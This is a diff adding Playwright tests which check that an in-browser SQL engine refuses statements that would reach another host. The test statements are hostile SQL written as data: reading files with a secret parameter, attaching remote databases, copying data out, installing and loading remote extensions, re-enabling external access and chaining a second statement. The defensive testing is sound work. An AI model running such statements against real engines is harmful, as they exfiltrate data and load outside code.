@@ -3,6 +3,7 @@ import type { Page } from '@playwright/test';
 import type { AddressInfo } from 'node:net';
 import { CHANNELS, type Channel } from './channels';
 import { expect, test } from './fixtures';
+import type {} from './contract-page';
 
 // The attempts below make the browser complain; that is the point of them.
 test.use({ allowedErrors: [/./] });
@@ -51,6 +52,38 @@ test.describe('nothing leaves the app by', () => {
 async function attempt(page: Page, channel: Channel, origin: string): Promise<void> {
   await page.evaluate(channel.attempt, origin).catch(() => undefined);
 }
+
+test.describe('nothing leaves the engine by SQL:', () => {
+  const statements: Readonly<Record<string, (origin: string) => string>> = {
+    'a table at an address': (origin) => `SELECT * FROM read_csv('${origin}/sql-csv?secret=42')`,
+    'a text at an address': (origin) => `SELECT * FROM read_text('${origin}/sql-text')`,
+    'an address as a table': (origin) => `SELECT * FROM '${origin}/sql-name.csv'`,
+    'a list of files': (origin) => `SELECT * FROM glob('${origin}/*')`,
+    'a database at an address': (origin) => `ATTACH '${origin}/sql-attach.db' AS stranger`,
+    'a copy to an address': (origin) => `COPY (SELECT 42) TO '${origin}/sql-copy.csv'`,
+    'an extension of another host': (origin) => `INSTALL stranger FROM '${origin}'`,
+    'an extension that is loaded': (origin) => `LOAD '${origin}/stranger.duckdb_extension.wasm'`,
+    'a setting': () => 'SET enable_external_access = true',
+    'a second statement': (origin) => `SELECT 1; SELECT * FROM read_csv('${origin}/sql-second')`,
+  };
+  for (const [name, statement] of Object.entries(statements)) {
+    test(name, async ({ page, canary }) => {
+      await page.goto('e2e/contract.html');
+      const answer = await page.evaluate(async (sql) => {
+        const { engine, file, profilePlan } = window.contractPage;
+        const files = { 'a.csv': await file('a.csv', 'a,b\n1,2\n') };
+        return engine.ask({
+          plan: profilePlan('a.csv'),
+          files,
+          query: { kind: 'select', sql, tables: {}, limit: 9 },
+        });
+      }, statement(canary.origin));
+      expect(answer.ok ? 'an answer' : answer.failure.code).toMatch(/^sql-/);
+      await page.waitForTimeout(PATIENCE_MS);
+      expect(canary.heard).toEqual([]);
+    });
+  }
+});
 
 test.describe('the app', () => {
   test('states its content security policy before anything else', async ({ page, request }) => {
